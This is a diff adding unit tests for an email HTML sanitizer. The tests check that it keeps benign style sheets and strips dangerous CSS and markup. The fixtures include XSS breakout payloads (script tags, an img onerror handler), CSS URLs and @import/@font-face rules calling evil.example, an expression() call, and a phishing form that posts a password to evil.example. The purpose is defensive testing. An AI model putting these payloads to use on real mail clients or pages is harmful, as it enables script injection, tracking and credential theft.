@@ -57,6 +57,56 @@ describe('sanitizeEmailHtml', () => {
 		expect(clean).toContain('<p style="color:red">styled</p>');
 	});
 
+	it("keeps the email's own style sheet, filtered like inline styles, in one <style> before the body", () => {
+		const clean = sanitizeEmailHtml(`<html><head><style type="text/css">
+			/* layout */
+			.wrapper { max-width: 600px; margin: 0 auto; background-color: #f4f4f4 }
+			h1, .title { font-size: 22px; color: rgb(20, 20, 20) !important }
+			.hero { background-image: url(https://evil.example/hero.png); color: #fff; position: fixed }
+			@media only screen and (max-width: 600px) { .wrapper { width: 100% } .x { background: url(https://evil.example/m.png) } }
+			@media url(https://evil.example/q) { p { color: red } }
+			@import url(https://evil.example/a.css);
+			@font-face { font-family: Leak; src: url(https://evil.example/font.woff) }
+			@keyframes spin { from { width: 1px } }
+			a[href^="https://bank"] { color: blue }
+			.esc { font-family: \\75rl }
+			</style></head><body><div class="wrapper"><h1 class="title">Hello</h1></div>
+			<style>p.note { font-weight: bold; width: expression(alert(1)) }</style><p class="note">n</p></body></html>`);
+		const sheet = /^<style>([^<]*)<\/style>/.exec(clean)?.[1] ?? '';
+		expect(clean.match(/<style>/g)).toHaveLength(1);
+		expect(sheet).toContain(
+			'.wrapper { max-width: 600px; margin: 0 auto; background-color: #f4f4f4 }',
+		);
+		expect(sheet).toContain('h1, .title { font-size: 22px; color: rgb(20, 20, 20) !important }');
+		expect(sheet).toContain('.hero { color: #fff }');
+		expect(sheet).toContain(
+			'@media only screen and (max-width: 600px) { .wrapper { width: 100% } }',
+		);
+		expect(sheet).toContain('a[href^="https://bank"] { color: blue }');
+		expect(sheet).toContain('p.note { font-weight: bold }');
+		expect(sheet).not.toMatch(
+			/url|evil|@import|font-face|keyframes|position|expression|\\|Leak|\/\*|\.esc|\.x /i,
+		);
+		// The classes the sheet selects by stay on the elements.
+		expect(clean).toContain('<div class="wrapper"><h1 class="title">Hello</h1></div>');
+		expect(clean).toContain('<p class="note">n</p>');
+	});
+
+	it('a style sheet cannot close its element or smuggle markup', () => {
+		for (const attack of [
+			'<style>p { color: red } </style><script>alert(1)</script>',
+			'<style>a[title="</style><img src=x onerror=alert(2)>"] { color: red }</style>',
+			'<style>p { font-family: "</style><script>alert(3)</script>" }</style>',
+			'<svg><style>p { color: red }</style><script>alert(4)</script></svg>',
+			'<style>p { color: red }',
+		]) {
+			const clean = sanitizeEmailHtml(attack);
+			expect(clean).not.toMatch(/<script|onerror|<img|<svg|alert\(/i);
+			const sheets = clean.match(/<style>[^]*?<\/style>/g) ?? [];
+			for (const sheet of sheets) expect(sheet.slice(7, -8)).not.toContain('<');
+		}
+	});
+
 	it('removes forms, frames, objects, meta refresh and base', () => {
 		const clean =
 			sanitizeEmailHtml(`<form action="https://evil.example/phish" method="post"><input name="password" type="password"><button formaction="https://evil.example">Log in</button><textarea>t</textarea><select><option>o</option></select></form>
